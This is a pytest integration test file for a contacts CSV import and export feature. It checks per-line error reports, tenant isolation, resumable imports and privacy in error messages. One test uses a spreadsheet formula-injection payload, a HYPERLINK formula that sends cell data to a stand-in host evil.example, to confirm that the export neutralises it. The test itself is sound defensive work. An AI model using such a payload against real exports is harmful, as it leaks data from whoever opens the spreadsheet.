"""CSV import (API job and CLI) and export."""

from __future__ import annotations

import csv
import io
import subprocess
import uuid
from collections.abc import Awaitable, Callable

import pytest

from application.contacts import import_contacts
from application.contacts.create_contact import CreateContact
from application.contacts.import_contacts import (
    ImportContacts,
    ImportState,
    RunContactImport,
    StartContactImport,
)
from application.contacts.record_consent import RecordConsent
from domain.consent import ConsentSource, ConsentState
from interfaces.http.app import create_app
from tests.conftest import add_shop
from tests.integration.test_session_and_proxy import _token
from tests.support.http import client
from tests.support.processes import blossom, child_env
from tests.support.queue import drain
from tests.support.settings import make_environ

pytestmark = pytest.mark.usefixtures("clean_db")

# The NULs: spreadsheet exports can carry them, and Postgres cannot store them.
CSV = """phone,email,first_name,tags,consent,consent_proof
(415) 555-0101,a@example.com,Ann,vip;spring,subscribed,"Paper form, Berlin pop-up\x00, 2026-10-02"
(415) 555-0102,,Bob,,subscribed,
12,,Bad,,,
(415) 555-0103,c@example.com,C\x00y,,unsubscribed,
(415) 555-0101,,Dup,,,
"""


def _auth(shop) -> dict[str, str]:
    return {"Authorization": f"Bearer {_token(shop.domain)}"}


async def test_import_job_reports_progress_and_per_line_errors(container):
    shop = await add_shop(container)
    async with client(create_app(container)) as http:
        started = await http.post(
            "/api/v1/contacts/imports",
            headers={**_auth(shop), "Content-Type": "text/csv"},
            content=CSV.encode(),
        )
        import_id = started.json()["id"]
        await drain(container, "consent")
        status = (
            await http.get(f"/api/v1/contacts/imports/{import_id}", headers=_auth(shop))
        ).json()
        no_phone = await http.post(
            "/api/v1/contacts/imports",
            headers={**_auth(shop), "Content-Type": "text/csv"},
            content=b"email\nx@example.com\n",
        )
    assert started.status_code == 202
    assert status["status"] == "done" and status["processed"] == 5 and status["imported"] == 2
    assert [e["line"] for e in status["errors"]] == [3, 4, 6]
    assert "consent_proof" in status["errors"][0]["error"]
    assert no_phone.status_code == 422
    async with container.uow.for_shop(shop.id) as uow:
        ann = await uow.contacts.find(phone="+14155550101")
        [event] = await uow.consent.history(ann.id)
        cy = await uow.contacts.find(phone="+14155550103")
        assert await uow.contacts.find(phone="+14155550102") is None
    assert ann.consent_state is ConsentState.SUBSCRIBED and ann.tags == ["vip", "spring"]
    assert event.source is ConsentSource.IMPORT and "pop-up" in event.evidence["proof"]
    assert cy.consent_state is ConsentState.UNSUBSCRIBED


async def test_export_returns_every_contact_of_the_shop_only(container):
    shop, other = await add_shop(container), await add_shop(container)
    async with client(create_app(container)) as http:
        for n in range(3):
            await http.post(
                "/api/v1/contacts", headers=_auth(shop), json={"phone": f"+1415555010{n}"}
            )
        await http.post("/api/v1/contacts", headers=_auth(other), json={"phone": "+14155550199"})
        exported = await http.get("/api/v1/contacts/export", headers=_auth(shop))
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert exported.headers["content-type"].startswith("text/csv")
    assert sorted(r["phone"] for r in rows) == ["+14155550100", "+14155550101", "+14155550102"]


async def test_export_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(container):
    # Shoppers choose their own names in Shopify; merchants open the export in a spreadsheet.
    shop = await add_shop(container)
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    async with client(create_app(container)) as http:
        created = await http.post(
            "/api/v1/contacts",
            headers=_auth(shop),
            json={
                "phone": "+14155550100",
                "first_name": formula,
                "last_name": "@SUM(1+1)",
                "email": "=1+1@example.com",
            },
        )
        exported = await http.get("/api/v1/contacts/export", headers=_auth(shop))
    assert created.status_code == 201, created.text
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert (row["first_name"], row["last_name"], row["email"]) == (
        "'" + formula,
        "'@SUM(1+1)",
        "'=1+1@example.com",
    )
    assert row["phone"] == "+14155550100", "a normalized number is no formula: left as it is"

    # The export imports as it was: the apostrophes come off again.
    other = await add_shop(container)
    async with client(create_app(container)) as http:
        await http.post(
            "/api/v1/contacts/imports",
            headers={**_auth(other), "Content-Type": "text/csv"},
            content=exported.content,
        )
        await drain(container, "consent")
    async with container.uow.for_shop(other.id) as uow:
        imported = await uow.contacts.find(phone="+14155550100")
    assert (imported.first_name, imported.last_name, imported.email) == (
        formula,
        "@SUM(1+1)",
        "=1+1@example.com",
    )


async def test_cli_import_shows_progress_and_failed_lines(
    container, database_url, data_dir, tmp_path
):
    shop = await add_shop(container)
    # A long name: the ledger records the file as the actor of each consent change.
    path = tmp_path / ("contacts-" + "x" * 200 + ".csv")
    path.write_text(CSV)
    result = subprocess.run(
        blossom("contacts", "import", str(path), "--shop", shop.domain),
        env=child_env(**make_environ(data_dir), DATABASE_URL=database_url),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert "2 imported, 3 failed of 5" in result.stdout
    assert "line 4: phone: not a valid phone number" in result.stdout


class _BeforePhone:
    """CreateContact, except that `act` runs just before the contact for `phone` is made."""

    def __init__(self, create, phone: str, act: Callable[[], Awaitable[object]]) -> None:
        self._create, self._phone, self._act = create, phone, act

    async def __call__(self, uow, contact):
        if contact.phone == self._phone:
            await self._act()
        return await self._create(uow, contact)


def _importer(container, crash_on: str | None, error: Exception | None = None) -> RunContactImport:
    async def crash() -> None:
        raise error or RuntimeError("connection lost")

    return _importer_acting_at(container, crash_on, crash)


def _importer_acting_at(
    container, phone: str | None, act: Callable[[], Awaitable[object]]
) -> RunContactImport:
    create = CreateContact(container.phones, container.clock, container.ids)
    if phone:
        create = _BeforePhone(create, phone, act)
    return RunContactImport(
        container.uow, ImportContacts(create, RecordConsent(container.clock)), container.clock
    )


async def _start(container, shop, lines, header: str = "phone") -> uuid.UUID:
    async with container.uow.for_shop(shop.id) as uow:
        import_id = await StartContactImport(container.ids)(uow, "\n".join([header, *lines]))
        await uow.commit()
    return import_id


async def test_a_retried_import_resumes_after_the_last_batch_written(container, monkeypatch):
    monkeypatch.setattr(import_contacts, "BATCH", 2)
    shop = await add_shop(container)
    phones = [f"(415) 555-01{n:02d}" for n in range(10, 15)]
    import_id = await _start(container, shop, phones)

    with pytest.raises(RuntimeError):
        await _importer(container, crash_on=phones[3])(shop.id, import_id)
    report = await _importer(container, crash_on=None)(shop.id, import_id)

    assert (report.processed, report.imported, report.errors) == (5, 5, [])
    async with container.uow.for_shop(shop.id) as uow:
        stored = await uow.imports.get(import_id)
    assert stored.status is ImportState.DONE


async def test_the_last_attempts_failure_marks_the_import_failed_with_its_progress(container):
    shop = await add_shop(container)
    import_id = await _start(container, shop, ["(415) 555-0120"])

    with pytest.raises(RuntimeError):
        await _importer(container, crash_on="(415) 555-0120")(shop.id, import_id, last_attempt=True)

    async with container.uow.for_shop(shop.id) as uow:
        stored = await uow.imports.get(import_id)
    assert stored.status is ImportState.FAILED and stored.finished_at is not None
    assert stored.errors == [{"line": 1, "error": "the import stopped (RuntimeError)"}]


async def test_failed_lines_name_the_column_and_never_quote_a_shoppers_details(container):
    """The report is stored and shown in plain text; a file whose columns slid puts
    e-mail addresses and phone numbers where the tags or the phone should be."""
    shop = await add_shop(container)
    lines = [
        "(415) 555-0101,,jane.doe@example.com",
        "(415) 555-0102,,+1 (415) 555-0199",
        "(415) 555-0103,jane.doe@@example.com,",
        "jane.doe@example.com,,",
    ]
    import_id = await _start(container, shop, lines, header="phone,email,tags")

    report = await _importer(container, crash_on=None)(shop.id, import_id)

    tag = "tags: tag 1 has characters other than letters, digits, spaces and .:/-"
    assert report.errors == [
        {"line": 2, "error": tag},
        {"line": 3, "error": tag},
        {"line": 4, "error": "email: not an e-mail address"},
        {"line": 5, "error": "phone: not a phone number (no digits)"},
    ]


async def test_an_unexpected_value_error_is_reported_without_its_text(container):
    shop = await add_shop(container)
    import_id = await _start(container, shop, ["(415) 555-0130"])
    error = ValueError("cannot read jane.doe@example.com")

    report = await _importer(container, "(415) 555-0130", error)(shop.id, import_id)

    assert report.errors == [{"line": 2, "error": "a value could not be read (ValueError)"}]
